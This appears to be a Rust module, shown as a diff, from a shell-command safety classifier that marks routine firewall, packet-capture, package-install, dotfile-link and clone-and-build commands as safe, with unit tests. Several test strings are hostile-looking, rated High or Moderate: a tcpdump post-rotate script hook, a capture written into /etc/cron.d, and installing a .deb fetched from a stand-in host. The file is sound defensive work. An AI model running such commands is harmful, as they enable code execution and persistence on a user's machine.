@@ -1,0 +1,300 @@
+//! Everyday work that takes nothing away and trusts nobody new, in closed lists of its forms: a door for a private
+//! network, a bounded record of packets, a service that is started on other machines, a package that was built a
+//! moment ago, a link to one's own settings, the build of what a forge has just sent.
+
+use super::effect::Effect;
+use super::lower::Call;
+use super::machine::{Fact, Field, Known, Machine};
+use super::{EffectKind, TargetClass, known, paths, publishers, value};
+use crate::specs::Role;
+
+/// Programs that make packages out of the project at hand.
+const BUILDERS: &[&str] = &["cpack", "debuild", "dpkg-buildpackage", "makepkg"];
+
+/// What build systems are asked for that stays in the folder.
+const ASKED: &[&str] = &[
+    "assemble",
+    "bootJar",
+    "bootRun",
+    "build",
+    "check",
+    "clean",
+    "compile",
+    "package",
+    "run",
+    "spring-boot:run",
+    "test",
+    "verify",
+];
+
+impl Machine<'_> {
+    /// True for a call that opens a door to a private network alone, and for a record of packets that has a bound.
+    pub(super) fn is_routine(&self, call: &Call<'_>) -> bool {
+        match call.program {
+            "ufw" => {
+                let words: Vec<&str> = call.args.operands().map(|item| item.text).collect();
+                call.args.items.iter().all(|item| matches!(item.role, Role::Operand(_)))
+                    && opens_inside(&words)
+            }
+            "tcpdump" => self.records_a_little(call),
+            "dpkg" => self.is_just_built(call),
+            _ => false,
+        }
+    }
+
+    fn records_a_little(&self, call: &Call<'_>) -> bool {
+        let first = call.argv.first().map_or("", |field| field.text.rsplit('/').next().unwrap_or_default());
+        let own = |text: &str| {
+            let place = paths::locate(text, &self.state.cwd, self.ctx);
+            let usual =
+                matches!(place.class, TargetClass::Local | TargetClass::HomeFile | TargetClass::Temporary);
+            usual && (text.ends_with(".pcap") || text.ends_with(".pcapng")) && !value::has_hole(text)
+        };
+        first == "tcpdump"
+            && call.has_only(&[
+                "-i", "-w", "-n", "-nn", "-c", "-s", "-v", "-vv", "-vvv", "-e", "-q", "-t", "-tttt", "-l",
+            ])
+            && (call.args.has("-c") || call.args.operands().next().is_some())
+            && call.args.values("-w").all(|item| own(item.text))
+    }
+
+    /// Notes that a package was built, once that has succeeded.
+    pub(super) fn builds_packages(&mut self, name: &str) {
+        if BUILDERS.contains(&name) && !self.mute && !self.abroad {
+            self.facts.push(Fact { on: true, what: Known::Built(self.commands.len()) });
+        }
+    }
+
+    /// `cpack -G DEB && sudo dpkg -i x.deb`, and nothing in between.
+    fn is_just_built(&self, call: &Call<'_>) -> bool {
+        let between = self.state.built.map(|at| self.commands.get(at..).unwrap_or_default());
+        let next = between.is_some_and(|commands| {
+            commands.iter().all(|command| {
+                matches!(command.argv.first(), Some(Some(name))
+                    if matches!(name.as_str(), "sudo" | "dpkg") || BUILDERS.contains(&name.as_str()))
+            })
+        });
+        let mut files = call.args.operands();
+        let (Some(file), None) = (files.next(), files.next()) else { return false };
+        let plain = |letter: char| letter.is_ascii_alphanumeric() || "._-+~/".contains(letter);
+        next && call.args.has("-i")
+            && call.has_only(&["-i"])
+            && file.text.ends_with(".deb")
+            && !file.text.starts_with('/')
+            && file.text.chars().all(plain)
+            && self.own_file(file.text).is_none()
+            && self.commands.len() < super::record::COMMANDS
+    }
+
+    /// True for a program of a folder that a forge has just sent which builds it, and nothing else has touched it since.
+    pub(super) fn builds_in_place(&self, argv: &[Field]) -> bool {
+        let Some((first, rest)) = argv.split_first() else { return false };
+        let path = paths::locate_path(&first.text, &self.state.cwd, self.ctx);
+        let mut from = self.forged.iter().filter(|clone| {
+            path.strip_prefix(clone.folder.as_str()).is_some_and(|rest| rest.starts_with('/'))
+        });
+        let (Some(clone), None) = (from.next(), from.next()) else { return false };
+        let once = self.cloned.iter().filter(|folder| **folder == clone.folder).count() == 1;
+        let untouched = self.commands.len() < super::record::COMMANDS
+            && self.commands.iter().skip(clone.since).all(|command| {
+                let word = |at: usize| command.argv.get(at).and_then(Option::as_deref).unwrap_or_default();
+                let name = word(0);
+                matches!(name, "cd" | "pushd" | "mkdir" | "make" | "git")
+                    && (name != "git" || word(1) == "clone")
+                    || name.contains('/') && SCRIPTS.contains(&name.rsplit('/').next().unwrap_or_default())
+            });
+        let name = first.text.rsplit('/').next().unwrap_or_default();
+        let asked = rest.iter().all(|word| {
+            let plain = |letter: char| letter.is_ascii_alphanumeric() || "-_=.:/,+".contains(letter);
+            ASKED.contains(&word.text.as_str()) || word.text.starts_with('-') && word.text.chars().all(plain)
+        });
+        let script = SCRIPTS.contains(&name)
+            || clone.known
+                && (name.starts_with("bootstrap") || matches!(name, "install" | "install.sh" | "setup.sh"));
+        once && untouched && asked && script
+    }
+
+    /// Notes a clone by `https` from a forge.
+    pub(super) fn forged(&mut self, from: &str, folder: &str) {
+        let host = known::host_of(from);
+        let plain = from.starts_with("https://")
+            && known::is_forge(host)
+            && from.strip_prefix("https://").is_some_and(|rest| rest.starts_with(host))
+            && !value::has_hole(from);
+        if plain && self.forged.len() < 8 && !self.abroad {
+            let address = from.strip_suffix(".git").unwrap_or(from);
+            let clone = Clone {
+                folder: folder.to_owned(),
+                known: publishers::is_repository(address),
+                since: self.commands.len(),
+            };
+            self.forged.push(clone);
+        }
+    }
+
+    /// `ln -sfn ~/dotfiles/nvim ~/.config/nvim`: one's own settings, kept elsewhere, under their name.
+    pub(super) fn links_settings(&self, call: &Call<'_>, text: &str, sources: &[&str]) -> bool {
+        let [source] = sources else { return false };
+        let from = paths::locate_path(source, &self.state.cwd, self.ctx);
+        let to = paths::locate(text, &self.state.cwd, self.ctx);
+        let show = |text: &str| self.unknowns.show(text);
+        let (from, path) = (show(&from), show(&to.path));
+        let home = self.ctx.home.as_deref().unwrap_or("~");
+        let below = |path: &str| {
+            let rest = path.strip_prefix(home).or_else(|| path.strip_prefix('~'))?;
+            rest.strip_prefix('/').map(str::to_owned)
+        };
+        let (Some(from), Some(to_name)) = (below(&from), below(&path)) else { return false };
+        let Some(name) = to_name.strip_prefix(".config/").filter(|name| !name.contains('/')) else {
+            return false;
+        };
+        call.program == "ln"
+            && call.has_only(&["-s", "-f", "-n", "-v"])
+            && call.args.has("-s")
+            && call.args.has("-n")
+            && to.class == TargetClass::HomeFile
+            && !matches!(name, "autostart" | "environment.d" | "fish" | "systemd")
+            && [".dotfiles/", "dotfiles/"].iter().any(|folder| from.starts_with(folder))
+            && from.rsplit('/').next() == Some(name)
+    }
+}
+
+/// A folder that a forge has sent.
+#[derive(Clone, Debug)]
+pub(super) struct Clone {
+    folder: String,
+    /// True where everybody knows whose it is.
+    known: bool,
+    /// Commands before it.
+    since: usize,
+}
+
+/// Scripts by which projects are built, which leave everything in their folder. Sorted.
+const SCRIPTS: &[&str] = &["autogen.sh", "configure", "gradlew", "mvnw"];
+
+/// `allow from 10.8.0.0/24 to any port 8123 proto tcp comment '…'`.
+fn opens_inside(words: &[&str]) -> bool {
+    let ["allow", "from", network, "to", "any", "port", port, rest @ ..] = words else { return false };
+    let rest = match rest {
+        ["proto", "tcp" | "udp", rest @ ..] => rest,
+        rest => rest,
+    };
+    is_private(network)
+        && port.chars().all(|letter| letter.is_ascii_digit())
+        && matches!(rest, [] | ["comment", _])
+}
+
+/// True for a network, or an address, that only machines of the same house can have.
+fn is_private(network: &str) -> bool {
+    let (address, bits) = network.split_once('/').unwrap_or((network, "32"));
+    let parts: Vec<Option<u8>> = address.split('.').map(|part| part.parse().ok()).collect();
+    let (Ok(bits), [Some(first), Some(second), Some(_), Some(_)]) = (bits.parse::<u8>(), &parts[..]) else {
+        return false;
+    };
+    bits <= 32
+        && match first {
+            10 => bits >= 8,
+            172 => (16..32).contains(second) && bits >= 12,
+            192 => *second == 168 && bits >= 16,
+            _ => false,
+        }
+}
+
+/// True for the effects that [`Machine::is_routine`] speaks of.
+pub(super) fn is_of_routine(effect: &Effect) -> bool {
+    matches!(effect.kind, EffectKind::Configure | EffectKind::Overwrite | EffectKind::Install)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::safety::Risk::{High, Moderate, Safe};
+    use crate::safety::tests::{check_all, context};
+
+    #[test]
+    fn networks_of_a_house() {
+        for network in ["10.8.0.0/24", "192.168.1.7", "172.16.0.0/12"] {
+            assert!(is_private(network), "{network}");
+        }
+        for network in
+            ["0.0.0.0/0", "10.0.0.0/0", "172.32.0.0/16", "192.169.0.0/16", "10.8.0/24", "any", "10.0.0.0/40"]
+        {
+            assert!(!is_private(network), "{network}");
+        }
+    }
+
+    #[test]
+    fn everyday_work_takes_nothing_away() {
+        check_all(
+            &context(),
+            &[
+                (Safe, "sudo ufw allow from 10.8.0.0/24 to any port 8123 proto tcp comment 'by vpn'"),
+                (Moderate, "sudo ufw allow from 203.0.113.0/24 to any port 22"),
+                (Moderate, "sudo ufw allow from 10.0.0.0/8"),
+                (Safe, "sudo tcpdump -i eth0 -nn -c 200 -w /tmp/dns.pcap port 53"),
+                (Safe, "sudo tcpdump -ni eth0 'port 53' -c 100 -w dns.pcap"),
+                (Moderate, "sudo tcpdump -i any -s0 -w /tmp/all.pcap"),
+                (High, "sudo tcpdump -i any -c 1 -w /tmp/x.pcap -z /tmp/run.sh"),
+                (High, "sudo tcpdump -c 1 -w /etc/cron.d/x.pcap port 1"),
+                (Safe, "docker rm -f web && docker run -d --name web nginx"),
+                (High, "DOCKER_HOST=ssh://prod docker rm -f web && docker run -d --name web nginx"),
+                (Moderate, "docker rm -f web; docker run -d --name web nginx"),
+                (Moderate, "docker rm -fv web && docker run -d --name web nginx"),
+                (Moderate, "docker rm -f web db && docker run -d --name web nginx"),
+                (Moderate, "docker rm -f web && docker run -d nginx && docker tag --name web"),
+                (Safe, "systemctl --user enable --now syncthing.service"),
+                (Moderate, "systemctl --user enable --now ~/x.service"),
+                (Safe, "sudo -u postgres initdb -D /var/lib/postgres/data"),
+                (Moderate, "sudo initdb -D /etc/x"),
+                (Safe, "git rebase origin/main"),
+                (Moderate, "git rebase -X theirs origin/main"),
+                (High, "git rebase main && git push --force"),
+                (Safe, "ansible web -b -m service -a 'name=chrony state=started'"),
+                (Moderate, "ansible web -b -m service -a 'name=chrony state=restarted'"),
+                (Moderate, "ansible web -b -m service -a 'name=/tmp/x state=started'"),
+                (Safe, "cd build && cpack -G DEB && sudo dpkg -i nvim-linux-x86_64.deb"),
+                (Moderate, "cpack -G DEB; sudo dpkg -i nvim-linux-x86_64.deb"),
+                (High, "cpack -G DEB && curl -O https://e.example/x.deb && sudo dpkg -i x.deb"),
+                (Moderate, "cpack -G DEB && cp ~/Downloads/x.deb . && sudo dpkg -i x.deb"),
+                (Moderate, "cpack -G DEB && sudo dpkg -i /tmp/x.deb"),
+                (Safe, "ln -sfn ~/dotfiles/nvim ~/.config/nvim"),
+                (Moderate, "ln -sfn ~/Downloads/nvim ~/.config/nvim"),
+                (Moderate, "ln -sfn ~/dotfiles/x ~/.config/nvim"),
+                (Moderate, "ln -sf ~/dotfiles/nvim ~/.config/nvim"),
+                (High, "ln -sfn ~/dotfiles/.bashrc ~/.bashrc"),
+            ],
+        );
+    }
+
+    #[test]
+    fn what_a_forge_has_sent_is_built_in_its_folder() {
+        check_all(
+            &context(),
+            &[
+                (Safe, "git clone https://github.com/someone/app.git && cd app && ./mvnw package"),
+                (
+                    Safe,
+                    "git clone https://github.com/someone/app && cd app && ./configure --prefix=/opt/app && make",
+                ),
+                (
+                    Safe,
+                    "git clone https://github.com/microsoft/vcpkg.git && ./vcpkg/bootstrap-vcpkg.sh -disableMetrics",
+                ),
+                (Moderate, "git clone https://github.com/someone/vcpkg.git && ./vcpkg/bootstrap-vcpkg.sh"),
+                (Moderate, "git clone https://github.com/someone/app.git && cd app && ./install.sh"),
+                (Moderate, "git clone https://forge.example/someone/app.git && cd app && ./configure"),
+                (Moderate, "git clone https://github.com@forge.example/app.git && cd app && ./configure"),
+                (High, "git clone https://github.com/someone/app.git && cd app && sudo ./configure"),
+                (Moderate, "git clone https://github.com/someone/app && cd app && ./gradlew publish"),
+                (
+                    Moderate,
+                    "git clone https://github.com/someone/app && cd app && cp ~/x configure && ./configure",
+                ),
+                (
+                    Moderate,
+                    "git clone https://github.com/someone/app && cd app && git pull https://e.example/x && ./configure",
+                ),
+            ],
+        );
+    }
+}
